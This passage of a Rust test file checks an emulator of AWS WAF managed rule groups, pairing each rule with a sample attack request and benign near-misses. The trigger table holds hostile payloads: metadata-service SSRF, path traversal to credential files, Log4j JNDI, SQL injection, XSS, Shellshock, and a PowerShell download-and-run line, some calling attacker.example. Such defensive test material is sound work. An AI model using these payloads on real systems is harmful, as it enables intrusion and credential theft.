            log["ruleGroupList"].as_array().unwrap().len(),
            PUBLISHED.len(),
            "{what}: every group was evaluated"
        );
    }
}

#[test]
fn scope_down_limits_the_group_to_matching_requests() {
    let acl = crs_acl(
        json!({"ScopeDownStatement": {"RegexMatchStatement": {"RegexString": "^/api/",
            "FieldToMatch": {"UriPath": {}}, "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}}),
        false,
    );
    let outside = evaluate_one(&acl, &request(json!({"uri": "/", "noUserAgent": true})));
    assert_eq!(outside["action"], "ALLOW", "{outside}");
    assert!(labels(&outside).is_empty(), "{outside}");
    let inside = evaluate_one(
        &acl,
        &request(json!({"uri": "/api/x", "noUserAgent": true})),
    );
    assert_eq!(inside["action"], "BLOCK", "{inside}");
    assert_eq!(inside["terminatingRuleId"], "AWS-CRS");
}

#[test]
fn groups_behave_the_same_whatever_the_search_string_encoding() {
    let text = all_groups_acl(&BuildOptions {
        search_string: SearchStringEncoding::Text,
        ..Default::default()
    });
    let b64 = all_groups_acl(&BuildOptions::default());
    for r in [
        request(
            json!({"uri": "/", "args": "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"}),
        ),
        request(json!({"uri": "/", "headers": [h("X-Api-Version", "${jndi:ldap://x}")]})),
        request(json!({"uri": "/WEB-INF/web.xml"})),
    ] {
        let (a, b) = (evaluate_one(&text, &r), evaluate_one(&b64, &r));
        assert_eq!(a["action"], "BLOCK", "{a}");
        assert_eq!(a["ruleGroupList"], b["ruleGroupList"]);
    }
}

#[test]
fn ip_lists_name_the_ip_sets_they_need_when_they_are_missing() {
    let acl = web_acl(vec![managed_rule(
        "AWS-IpRep",
        0,
        "AWSManagedRulesAmazonIpReputationList",
        json!({}),
        false,
    )]);
    let doc = Document {
        file: "acl.json".into(),
        base: String::new(),
        value: acl,
    };
    let Err(errs) = build(&doc, &Resources::default(), &BuildOptions::default()) else {
        panic!("the group loaded without its IP sets");
    };
    let all = errs
        .iter()
        .map(|d| d.to_string())
        .collect::<Vec<_>>()
        .join("\n");
    for set in [
        "AWSManagedIPReputationList-v4",
        "AWSManagedReconnaissanceList-v6",
        "AWSManagedIPDDoSList-v4",
    ] {
        assert!(all.contains(set), "{set} should be named: {all}");
    }
}

// ---------------------------------------------------------------------------------------------
// One attack per rule: with its group alone in the ACL, the request is stopped by that rule
// (no earlier rule of the group takes it), and the near-miss beside it passes.
// ---------------------------------------------------------------------------------------------

struct Trigger {
    group: &'static str,
    rule: &'static str,
    /// The attack, completed by `request()`.
    request: fn() -> Value,
}

macro_rules! trigger {
    ($group:literal, $rule:literal, $req:expr) => {
        Trigger {
            group: $group,
            rule: $rule,
            request: || request($req),
        }
    };
}

const CRS: &str = "AWSManagedRulesCommonRuleSet";

#[rustfmt::skip] // a table: one attack per line
fn triggers() -> Vec<Trigger> {
    vec![
        trigger!("AWSManagedRulesCommonRuleSet", "NoUserAgent_HEADER", json!({"noUserAgent": true})),
        trigger!("AWSManagedRulesCommonRuleSet", "NoUserAgent_HEADER", json!({"headers": [h("User-Agent", "")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "NoUserAgent_HEADER", json!({"headers": [h("User-Agent", "\u{0}\u{0}")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "UserAgent_BadBots_HEADER",
            json!({"headers": [h("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "UserAgent_BadBots_HEADER",
            json!({"headers": [h("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "SizeRestrictions_QUERYSTRING",
            json!({"args": format!("a={}", "x".repeat(2047))})),
        trigger!("AWSManagedRulesCommonRuleSet", "SizeRestrictions_Cookie_HEADER",
            json!({"headers": [h("Cookie", &format!("a={}", "x".repeat(10239)))]})),
        trigger!("AWSManagedRulesCommonRuleSet", "SizeRestrictions_BODY",
            json!({"httpMethod": "POST", "body": "a".repeat(8193)})),
        trigger!("AWSManagedRulesCommonRuleSet", "SizeRestrictions_URIPATH",
            json!({"uri": format!("/{}", "a".repeat(1024))})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_BODY",
            json!({"httpMethod": "POST", "body": "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_COOKIE",
            json!({"headers": [h("Cookie", "theme=dark; avatar=http%3A%2F%2F169.254.169.254%2Flatest%2F")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_URIPATH",
            json!({"uri": "/fetch/169.254.169.254/latest/meta-data/"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http%3A%2F%2F2852039166%2F"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http://0xa9fea9fe/"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http://0251.0376.0251.0376/"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http://[::ffff:a9fe:a9fe]/"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http://[fd00:ec2::254]/latest/"})),
        trigger!("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
            json!({"args": "url=http%253A%252F%252F169.254.169.254"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericLFI_QUERYARGUMENTS",
            json!({"args": "file=..%2F..%2F..%2Fsecret"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericLFI_QUERYARGUMENTS",
            json!({"args": "file=%252e%252e%252fsecret"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericLFI_URIPATH",
            json!({"uri": "/static/%2e%2e/%2e%2e/secret"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericLFI_BODY",
            json!({"httpMethod": "POST", "body": "{\"template\":\"../../../secret\"}"})),
        trigger!("AWSManagedRulesCommonRuleSet", "RestrictedExtensions_URIPATH", json!({"uri": "/logs/app.log"})),
        trigger!("AWSManagedRulesCommonRuleSet", "RestrictedExtensions_URIPATH", json!({"uri": "/config.ini"})),
        trigger!("AWSManagedRulesCommonRuleSet", "RestrictedExtensions_QUERYARGUMENTS",
            json!({"args": "download=backup.sql"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericRFI_QUERYARGUMENTS",
            json!({"args": "page=http%3A%2F%2F203.0.113.7%2Fshell.txt"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericRFI_BODY",
            json!({"httpMethod": "POST", "body": "include=ftp%3A%2F%2F198.51.100.23%2Fpayload"})),
        trigger!("AWSManagedRulesCommonRuleSet", "GenericRFI_URIPATH",
            json!({"uri": "/proxy/https://198.51.100.23/x"})),
        trigger!("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_COOKIE",
            json!({"headers": [h("Cookie", "prefs=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")]})),
        trigger!("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS",
            json!({"args": "q=%3Cscript%3Ealert(%22hello%22)%3C%2Fscript%3E"})),
        trigger!("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_BODY",
            json!({"httpMethod": "POST", "body": "comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"})),
        // Markup written entirely in JSON `\uXXXX` escapes: only the JS_DECODE pass sees it.
        trigger!("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_BODY",
            json!({"httpMethod": "POST", "headers": [h("Content-Type", "application/json")],
                   "body": format!("{{\"bio\": \"{}\"}}", "<img src=x onerror=alert(1)>"
                       .chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect::<String>())})),
        trigger!("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_URIPATH",
            json!({"uri": "/search/%3Csvg%20onload%3Dalert(1)%3E"})),
        trigger!("AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", json!({"uri": "/sqlmanager/"})),
        trigger!("AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", json!({"uri": "/phpmyadmin/index.php"})),
        trigger!("AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", json!({"uri": "/admin"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "JavaDeserializationRCE_HEADER",
            json!({"headers": [h("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"whoami\")")]})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "JavaDeserializationRCE_BODY",
            json!({"httpMethod": "POST", "body": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "JavaDeserializationRCE_URIPATH",
            json!({"uri": "/functionRouter/(java.lang.Runtime).getRuntime().exec(%22whoami%22)"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "JavaDeserializationRCE_QUERYSTRING",
            json!({"args": "x=%28java.lang.Runtime%29.getRuntime%28%29.exec%28%22whoami%22%29"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Host_localhost_HEADER", json!({"headers": [h("Host", "localhost")]})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Host_localhost_HEADER", json!({"headers": [h("Host", "127.0.0.1:8080")]})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "PROPFIND_METHOD", json!({"httpMethod": "PROPFIND"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "ExploitablePaths_URIPATH", json!({"uri": "/WEB-INF/web.xml"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "ExploitablePaths_URIPATH", json!({"uri": "/app/.git/config"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", json!({"headers": [h("X-Api-Version", "${jndi:ldap://x}")]})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_QUERYSTRING", json!({"args": "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_BODY",
            json!({"httpMethod": "POST", "body": "{\"user\":\"${${lower:j}ndi:dns://attacker.example/a}\"}"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_URIPATH", json!({"uri": "/%24%7Bjndi:ldap://x/a%7D"})),
        trigger!("AWSManagedRulesKnownBadInputsRuleSet", "ReactJSRCE_BODY",
            json!({"httpMethod": "POST", "headers": [h("Next-Action", "x")],
                   "body": "{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\",\"_response\":{\"_formData\":{\"get\":\"$1:constructor:constructor\"}}}"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", json!({"args": "id=1%27%20OR%20%271%27%3D%271"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", json!({"args": "id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_QUERYARGUMENTS", json!({"args": "t=information_schema.tables"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLi_BODY",
            json!({"httpMethod": "POST", "body": "id=1+UNION+SELECT+username%2C+password+FROM+users--"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_BODY",
            json!({"httpMethod": "POST", "body": "{\"t\":\"information_schema.columns\"}"})),
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLi_COOKIE", json!({"headers": [h("Cookie", "theme=dark; uid=1%27%20or%201%3D1--")]})),
        // The path of a real AWS record (spec §7.1 A), where SQLi_URIPATH fired.
        trigger!("AWSManagedRulesSQLiRuleSet", "SQLi_URIPATH", json!({"uri": "/SELECT-1e1FROM%60test%60"})),
        trigger!("AWSManagedRulesLinuxRuleSet", "LFI_URIPATH", json!({"uri": "/download/..%2f..%2fproc/version"})),
        trigger!("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", json!({"args": "file=%2Fetc%2Fpasswd"})),
        trigger!("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", json!({"args": "f=..%5C..%5Cproc%5Cself%5Cenviron"})),
        trigger!("AWSManagedRulesLinuxRuleSet", "LFI_HEADER", json!({"headers": [h("X-Template", "/home/alice/.ssh/id_rsa")]})),
        trigger!("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYSTRING", json!({"args": "cmd=echo%20$HOME"})),
        trigger!("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYSTRING",
            json!({"args": "host=example.com%3Bcat%20/etc/hosts"})),
        trigger!("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY",
            json!({"httpMethod": "POST", "body": "ip=8.8.8.8%3Bwhoami&submit=go"})),
        trigger!("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY",
            json!({"httpMethod": "POST", "body": "ip=8.8.8.8|id"})),
        trigger!("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_HEADER",
            json!({"headers": [h("User-Agent", "() { :; }; /bin/bash -c \"id\"")]})),
        trigger!("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_COOKIE",
            json!({"headers": [h("Cookie", "lang=en%7C%7Cnslookup%20attacker.example")]})),
        trigger!("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_QUERYARGUMENTS", json!({"args": "host=127.0.0.1%3Bcmd"})),
        trigger!("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_QUERYARGUMENTS",
            json!({"args": "p=cmd.exe%20%2Fc%20type%20%25windir%25%5Cwin.ini"})),
        trigger!("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY",
            json!({"httpMethod": "POST", "body": "target=x%26%26whoami"})),
        trigger!("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_COOKIE",
            json!({"headers": [h("Cookie", "p=Invoke-Expression%20%24x")]})),
        trigger!("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_QUERYARGUMENTS",
            json!({"args": "c=IEX(New-Object%20Net.WebClient).DownloadString('http://x/a.ps1')"})),
        trigger!("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_BODY",
            json!({"httpMethod": "POST", "body": "script=powershell.exe+-nop+-w+hidden+-enc+SQBFAFgA"})),
        trigger!("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_HEADER",
            json!({"headers": [h("X-Forwarded-Host", "<?php system($_GET['c']); ?>")]})),
        trigger!("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING",
            json!({"args": "x=fsockopen(%22attacker%22,4444)"})),
        trigger!("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING",
            json!({"args": "page=php://filter/convert.base64-encode/resource=index"})),
        trigger!("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY",
            json!({"httpMethod": "POST", "body": "code=%24_POST%5B0%5D"})),
        trigger!("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING",
            json!({"uri": "/wp-admin/tools.php", "args": "page=wp-reset&do-reset-wordpress=1"})),
        trigger!("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", json!({"uri": "/xmlrpc.php"})),
        trigger!("AWSManagedRulesAmazonIpReputationList", "AWSManagedIPReputationList", json!({"clientIp": "192.0.2.5"})),
        trigger!("AWSManagedRulesAmazonIpReputationList", "AWSManagedIPReputationList", json!({"clientIp": "2001:db8:bad::1"})),
        trigger!("AWSManagedRulesAmazonIpReputationList", "AWSManagedReconnaissanceList", json!({"clientIp": "192.0.2.20"})),
        trigger!("AWSManagedRulesAnonymousIpList", "AnonymousIPList", json!({"clientIp": "203.0.113.5"})),
        trigger!("AWSManagedRulesAnonymousIpList", "HostingProviderIPList", json!({"clientIp": "203.0.113.200"})),
        trigger!("AWSManagedRulesAnonymousIpList", "HostingProviderIPList", json!({"clientIp": "2001:db8:c10d::9"})),
    ]
}

fn single_group_acl(group: &str) -> CompiledAcl {
    compile(web_acl(vec![managed_rule("G", 0, group, json!({}), false)]))
}

#[test]
fn every_rule_stops_an_attack_of_its_own() {
    let triggers = triggers();
    let mut failures = Vec::new();
    for t in &triggers {
        let acl = single_group_acl(t.group);
        let req = (t.request)();
        let log = evaluate_one(&acl, &req);
        let got = log["ruleGroupList"][0]["terminatingRule"]["ruleId"].as_str();
        if log["action"] != "BLOCK" || got != Some(t.rule) {
            failures.push(format!(
                "{} / {}: got {} by {:?} for {}",
                t.group, t.rule, log["action"], got, req
            ));
        }
    }
    // Every Block rule of every group has at least one attack above.
    for p in PUBLISHED {
        for (rule, _, action) in p.rules {
            if *action == "Block"
                && !triggers
                    .iter()
                    .any(|t| t.group == p.name && t.rule == *rule)
            {
                failures.push(format!("{} / {rule}: no attack in the table", p.name));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_ddos_list_only_counts() {
    let acl = single_group_acl("AWSManagedRulesAmazonIpReputationList");
    let log = evaluate_one(&acl, &request(json!({"clientIp": "198.51.100.9"})));
    assert_subset(
        &log,
        json!({
            "action": "ALLOW", "terminatingRuleId": "Default_Action",
            "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesAmazonIpReputationList", "terminatingRule": null,
                "nonTerminatingMatchingRules": [{"ruleId": "AWSManagedIPDDoSList", "action": "COUNT", "ruleMatchDetails": []}]}],
            "labels": [{"name": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList"}],
        }),
    );
}

/// Requests just inside the documented conditions, and near-misses of the patterns: all pass.
#[rustfmt::skip] // a table: one request per line
fn near_misses() -> Vec<(&'static str, Value)> {
    vec![
        (CRS, json!({"args": format!("a={}", "x".repeat(2046))})),
        (CRS, json!({"headers": [h("Cookie", &format!("a={}", "x".repeat(10238)))]})),
        (CRS, json!({"httpMethod": "POST", "body": "a".repeat(8192)})),
        (CRS, json!({"uri": format!("/{}", "a".repeat(1023))})),
        (CRS, json!({"args": "ip=169.254.169.25"})),
        (CRS, json!({"args": "msg=Loading...&path=docs/guide..v2"})),
        (CRS, json!({"uri": "/styles.css"})),
        (CRS, json!({"uri": "/api/logout"})),
        (CRS, json!({"args": "email=jane%40example.com&site=https%3A%2F%2Fexample.com%2F"})),
        (CRS, json!({"args": "callback=https%3A%2F%2Fapi.example.com%2Fv1.2.3%2Fhook"})),
        (CRS, json!({"headers": [h("User-Agent", "curl/8.5.0")]})),
        (CRS, json!({"headers": [h("User-Agent", "aws-sdk-java/2.20.0 Linux/5.10 aws-xray-sdk-java/2.14.0")]})),
        ("AWSManagedRulesAdminProtectionRuleSet", json!({"uri": "/blog/admin-tips-for-beginners"})),
        ("AWSManagedRulesKnownBadInputsRuleSet", json!({"headers": [h("Host", "localhost.example.com")]})),
        ("AWSManagedRulesKnownBadInputsRuleSet", json!({"httpMethod": "POST", "body": "{\"greeting\":\"Hello ${name}\"}"})),
        ("AWSManagedRulesKnownBadInputsRuleSet", json!({"uri": "/docs/web-information"})),
        ("AWSManagedRulesSQLiRuleSet", json!({"args": "q=select+a+plan&name=O%27Connor"})),
        ("AWSManagedRulesLinuxRuleSet", json!({"uri": "/etc/passwords-guide"})),
        ("AWSManagedRulesUnixRuleSet", json!({"headers": [h("Cookie", "a=1; id=42; ls=on")]})),
        ("AWSManagedRulesUnixRuleSet", json!({"headers": [h("Cookie", "a=1; id-token=abc; ps-session=xyz")]})),
        ("AWSManagedRulesUnixRuleSet", json!({"httpMethod": "POST", "body": "note=I went home; cat food was on sale"})),
        ("AWSManagedRulesWindowsRuleSet", json!({"httpMethod": "POST", "body": "cmd=save&dir=asc"})),
        ("AWSManagedRulesPHPRuleSet", json!({"args": "q=system+design+interview"})),
        ("AWSManagedRulesWordPressRuleSet", json!({"uri": "/wp-content/uploads/2024/01/photo.jpg"})),
        ("AWSManagedRulesAmazonIpReputationList", json!({"clientIp": "192.0.2.200"})),
        ("AWSManagedRulesAnonymousIpList", json!({"clientIp": "2001:db8::1"})),
    ]
}

#[test]
fn documented_limits_are_exact_and_near_misses_pass() {
    let mut failures = Vec::new();
    for (group, r) in near_misses() {
        let req = request(r);
        let log = evaluate_one(&single_group_acl(group), &req);
        if log["action"] != "ALLOW" || !labels(&log).is_empty() {
            failures.push(format!(
                "{group}: {} by {} ({:?}) for {req}",
                log["action"],
                log["ruleGroupList"][0]["terminatingRule"],
                labels(&log)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn body_size_rule_uses_the_documented_8_kb_whatever_the_inspection_window() {
    // CloudFront inspects 16 KB: the 10 KB body is fully read and still over 8,192 bytes.
    let acl = compile_with(
        web_acl(vec![managed_rule("AWS-CRS", 1, CRS, json!({}), false)]),
        &BuildOptions {
            source: Source::CloudFront,
            ..Default::default()
        },
    )
    .unwrap();
    let log = evaluate_one(&acl, &ten_kb_body());
    assert_eq!(
        log["ruleGroupList"][0]["terminatingRule"]["ruleId"], "SizeRestrictions_BODY",
        "{log}"
    );
    assert!(log.get("oversizeFields").is_none(), "{log}");
}

/// The starter ACL's own base64 rule: a script tag or SQL injection sent base64-encoded in a query
/// argument (as GoTestWAF's Base64Flat encoder does, unpadded) is blocked, while the base64 that
/// ordinary traffic carries (JWTs, opaque tokens, image data, ids) passes.
#[test]
fn starter_acl_decodes_base64_query_arguments() {
    let (acl, _) =
        webacl::efficacy::load_acl(None, None, &BuildOptions::default()).expect("starter ACL");
    let b64 = |s: &str| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(s)
    };
    for (what, payload) in [
        ("script tag", "<script>alert(document.cookie)</script>"),
        ("img onerror", "<img src=x onerror=alert(1)>"),
        ("sql injection", "1' OR '1'='1' --"),
    ] {
        let log = evaluate_one(
            &acl,
            &request(
                json!({"headers": chrome_headers(), "uri": "/view", "args": format!("data={}", b64(payload))}),
            ),
        );
        assert_eq!(log["action"], "BLOCK", "{what}: {log:#}");
        assert_eq!(
            log["terminatingRuleId"], "BlockBase64InjectionQueryArguments",
            "{what}"
        );
    }
    for (what, args) in [
        ("JWT", "token=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWxpY2UiLCJpYXQiOjE3MDAwMDAwMDB9.c2lnbmF0dXJlLXBsYWNlaG9sZGVy".to_string()),
        ("opaque token and id", "state=Zk9yN3RqQ2xhV1l6&id=8f14e45fceea167a5a36dedd4bea2543".to_string()),
        ("base64 of ordinary text", format!("q={}", b64("men's trail shoes, size 42 (blue)"))),
        ("base64 image prefix", "img=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg".to_string()),
        ("Chrome search", "color=blue&size=42&utm_source=newsletter&q=men%27s+trail+shoes".to_string()),
    ] {
        let log = evaluate_one(
            &acl,
            &request(json!({"headers": chrome_headers(), "uri": "/view", "args": args})),
        );
        assert_eq!(log["action"], "ALLOW", "{what}: {log:#}");
    }
}
